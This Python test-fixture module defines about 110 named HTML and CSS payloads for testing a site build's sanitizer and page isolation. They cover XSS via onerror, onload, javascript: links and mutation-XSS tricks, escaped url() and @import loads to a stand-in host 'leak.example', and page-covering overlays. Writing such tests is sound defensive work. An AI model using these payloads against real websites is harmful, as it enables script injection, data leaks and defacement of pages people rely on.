"""Pictures that try to load, run or cover something: what a notebook made elsewhere may
carry in a widget output's picture (site/lesson_pictures.py, site/lesson-page.js).

The build's cleaners meet them in ``tests/site/test_site_build.py``, the site's page in
Chromium in ``tests/browser/test_site.py``. Each payload is named, and names itself in what
it does: an address it would load holds ``leak`` and its name (``//leak.example/h01``,
``leak-h01.png``), a script it would run adds its name to ``top.rallyPwned``, and a style
that reaches the page paints it ``rgb(255, 0, 1)`` or hides it.
"""

from __future__ import annotations

#: The colour a payload paints what it should not reach.
MARK = "rgb(255, 0, 1)"


def _run(name: str) -> str:
    return f"top.rallyPwned=(top.rallyPwned||[]).concat(/{name}/.source)"  # no quotes: it goes in any attribute


#: HTML payloads by name: the HTML of a picture (``{far}``: an address on another host,
#: ``{near}``: one on the site's own, ``{run}``: a script, ``{mark}``: :data:`MARK`).
HTML = {
    "h01 style attribute url()": '<div style="background-image: url({far})">x</div>',
    "h02 style attribute escaped url()": '<div style="background: u\\72l({far})">x</div>',
    "h03 style attribute image-set()": "<div style=\"background-image: image-set('{far}' 1x)\">x</div>",
    "h04 img srcset": '<img srcset="{far} 1x" alt="">',
    "h05 source srcset": '<picture><source srcset="{far}"><img alt=""></picture>',
    "h06 table background": '<table background="{far}"><tr><td>x</td></tr></table>',
    "h07 svg set on href": '<svg><image width="9" height="9"><set attributeName="href" to="{far}"/></image></svg>',
    "h08 svg animate on href": ('<svg><image width="9" height="9" href="#x"><animate attributeName="href" '
                                'values="{far}" dur="1s"/></image></svg>'),
    "h09 backslashes for //": '<img src="\\\\leak.example/h09" alt="">',
    "h10 slash backslash": '<img src="/\\leak.example/h10" alt="">',
    "h11 control character before //": '<img src="&#1;//leak.example/h11" alt="">',
    "h12 scheme without slashes": '<img src="https:image/leak-h12" alt="">',
    "h13 plain http img": '<img src="{far}" alt="">',
    "h14 relative img": '<img src="{near}" alt="">',
    "h15 img onerror": '<img src="" onerror="{run}" alt="">',
    "h16 comment trick": '<!--><img src="" onerror="{run}" alt="">-->',
    "h17 CDATA trick": '<svg><![CDATA[><img src="" onerror="{run}" alt="">]]></svg>',
    "h18 noscript trick": '<noscript><p title="</noscript><img src=\'\' onerror=\'{run}\' alt=\'\'>"></p></noscript>',
    "h19 mathml style mXSS": '<math><mtext><table><mglyph><style><img src="" onerror="{run}" alt="">',
    "h20 svg style mXSS": '<svg></p><style><a id="</style><img src=\'\' onerror=\'{run}\' alt=\'\'>">',
    "h21 svg use href": '<svg><use href="{far}#a"/></svg>',
    "h22 svg use xlink:href": '<svg><use xlink:href="{far}#a"/></svg>',
    "h23 svg image href": '<svg><image href="{far}" width="9" height="9"/></svg>',
    "h24 svg image xlink:href": '<svg><image xlink:href="{far}" width="9" height="9"/></svg>',
    "h25 meta refresh": '<meta http-equiv="refresh" content="0;url={far}">',
    "h26 base then relative": '<base href="{far}/"><img src="x.png" alt="">',
    "h27 link stylesheet": '<link rel="stylesheet" href="{far}.css"><link rel="prefetch" href="{near}">',
    "h28 object": '<object data="{far}"></object>',
    "h29 embed": '<embed src="{far}">',
    "h30 iframe srcdoc": '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "h31 iframe src": '<iframe src="{far}"></iframe>',
    "h32 form action": '<form action="{far}"><button formaction="{far}">go</button></form>',
    "h33 svg style import": "<svg><style>@import '{far}';</style><rect width=\"9\" height=\"9\"/></svg>",
    "h34 html style": '<style>@import "{far}"; body {{ display: none !important }}</style>',
    "h35 javascript link": '<a href="javascript:{run}">go</a><svg><a xlink:href="javascript:{run}"><text>go</text></a></svg>',
    "h36 script": "<script>{run}</script><svg><script>{run}</script></svg>",
    "h37 svg onload": '<svg onload="{run}"><circle r="4"/></svg>',
    "h38 details ontoggle": '<details open ontoggle="{run}"><summary>x</summary></details>',
    "h39 svg animate onbegin": '<svg><rect width="9" height="9"><animate onbegin="{run}" attributeName="x" dur="1s"/></rect></svg>',
    "h40 external paint server": '<svg><rect width="9" height="9" fill="url({far}#p)"/></svg>',
    "h41 escaped external paint server": '<svg><rect width="9" height="9" fill="u\\72l({far}#p)"/></svg>',
    "h42 external filter and clip-path": ('<svg><rect width="9" height="9" filter="url({far}#f)" '
                                          'style="clip-path: url({far}#c)"/></svg>'),
    "h43 svg feImage": '<svg><filter id=""><feImage href="{far}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    "h44 video poster, audio, input image": ('<video poster="{far}"></video><audio src="{far}"></audio>'
                                             '<input type="image" src="{far}" alt="">'),
    "h45 ping": '<a ping="{far}" href="#x">x</a>',
    "h46 autofocus onfocus": '<input autofocus onfocus="{run}">',
    "h47 svg set onmouseover": '<svg><rect width="9" height="9"><set attributeName="onmouseover" to="{run}"/></rect></svg>',
    "h48 template and portal": '<template><img src="" onerror="{run}"></template><portal src="{far}"></portal>',
    "h49 fixed overlay in a style attribute": ('<div style="position: fixed; inset: 0; z-index: 2147483647; '
                                              'background: {mark}">cover</div>'),
    "h50 typed attr()": '<b data-x="{far}" style="background-image: attr(data-x type(&lt;url&gt;))">x</b>',
}

#: CSS payloads that load or run something, by name: the CSS of a picture whose HTML is
#: ``<b class="kept">G5</b><div class="cover">cover</div>``.
CSS = {
    "c01 url()": "b {{ background: url({far}) }}",
    "c02 escaped url()": "b {{ background: u\\72l({far}) }}",
    "c03 image-set()": "b {{ background-image: image-set('{far}' 1x) }}",
    "c04 -webkit-image-set()": "b {{ background-image: -webkit-image-set(url({far}) 1x) }}",
    "c05 @import": "@import url({far}.css); b {{ color: red }}",
    "c06 escaped @import": "@\\69mport '{far}.css'; b {{ color: red }}",
    "c07 @font-face src": "@font-face {{ font-family: leak7; src: url({far}.woff) }} b {{ font-family: leak7 }}",
    "c08 escaped @font-face src": "@font-face {{ font-family: leak8; s\\72c: u\\72l({far}.woff) }} b {{ font-family: leak8 }}",
    "c09 cursor url()": "b {{ cursor: url({far}), auto }}",
    "c10 image()": "b {{ background-image: image('{far}') }}",
    "c11 custom property url()": "b {{ --x: url({far}) }} b {{ background-image: var(--x) }}",
    "c12 custom property escaped url()": "b {{ --y: u\\72l({far}) }} b {{ background-image: var(--y) }}",
    "c13 list-style and content": "b {{ display: list-item; list-style-image: url({far}) }} b::before {{ content: url({far}) }}",
    "c14 mask and border-image": "b {{ mask-image: url({far}); border: 4px solid; border-image: url({far}) 1 }}",
    "c15 filter and clip-path": "b {{ filter: url({far}#f); clip-path: url({far}#c) }}",
    "c16 url() in @media": "@media all {{ b {{ background: url({far}) }} }}",
    "c17 url() in @supports": "@supports (color: red) {{ b {{ background: url({far}) }} }}",
    "c18 url() in a nested rule": "b {{ color: red; & {{ background: url({far}) }} }}",
    "c19 @layer and @container": ("@layer x {{ b {{ background: url({far}) }} }} "
                                  "@container (min-width: 0) {{ b {{ background: url({far}) }} }}"),
    "c20 @property": "@property --p {{ syntax: '<url>'; inherits: true; initial-value: url({far}) }} b {{ background-image: var(--p) }}",
    "c21 @namespace and @counter-style": ("@namespace url({far}); @counter-style leak {{ system: cyclic; symbols: url({far}) }} "
                                          "b {{ display: list-item; list-style: leak }}"),
    "c22 cross-fade()": "b {{ background-image: cross-fade(url({far}), url({near}), 50%) }}",
    "c23 src()": "b {{ background-image: src('{far}') }}",
    "c24 a style element closed": "</style><img src=\"\" onerror=\"{run}\"><style>",
    "c25 relative url()": "b {{ background: url({near}) }}",
    "c26 expression() and behavior": "b {{ width: expression({run}); behavior: url({far}); -moz-binding: url({far}) }}",
}

#: CSS payloads that load nothing but reach for the page around the picture: hide it, paint
#: it, cover it. The build lets them by (they are CSS like any widget's); the page keeps
#: them inside their picture.
REACH = {
    "c27 hide the page": "body {{ display: none !important }} html {{ visibility: hidden !important }}",
    "c28 the page's root": ":root, html {{ opacity: 0 !important; background: {mark} !important; color: {mark} !important }}",
    "c29 every element": "* {{ color: {mark} !important; background: {mark} !important }}",
    "c30 the page's parts": ".jp-Notebook, .jp-Cell, .jp-NotebookPanel, .rally-site-map {{ display: none !important }}",
    "c31 fixed overlay": ".cover {{ position: fixed; inset: 0; z-index: 2147483647; background: {mark} }}",
    "c32 the host as an overlay": (":host {{ position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; "
                                   "width: 100vw !important; height: 100vh !important; background: {mark} !important }}"),
    "c33 host-context": ":host-context(body) {{ position: fixed !important; inset: 0 !important; background: {mark} !important }}",
    "c34 huge sticky element": (".cover {{ position: sticky; top: 0; width: 5000px; height: 5000px; margin: -2000px; "
                                "background: {mark}; z-index: 2147483647 }}"),
}


def _filled(text: str, name: str, far: str, near: str) -> str:
    return text.format(far=f"{far}/{name}", near=f"{near}-{name}.png", run=_run(name), mark=MARK)


def html_payloads(far: str = "//leak.example", near: str = "leak") -> dict[str, str]:
    """The HTML payloads, filled in: ``{far}`` is ``<far>/<id>``, ``{near}`` ``<near>-<id>.png``."""
    return {name: _filled(html, name[:3], far, near) for name, html in HTML.items()}


def css_payloads(far: str = "//leak.example", near: str = "leak") -> dict[str, str]:
    """The CSS payloads, filled in as :func:`html_payloads` fills the HTML ones."""
    return {name: _filled(css, name[:3], far, near) for name, css in CSS.items()}


def reach_payloads() -> dict[str, str]:
    """The CSS payloads that reach for the page (:data:`REACH`), filled in."""
    return {name: _filled(css, name[:3], "", "") for name, css in REACH.items()}
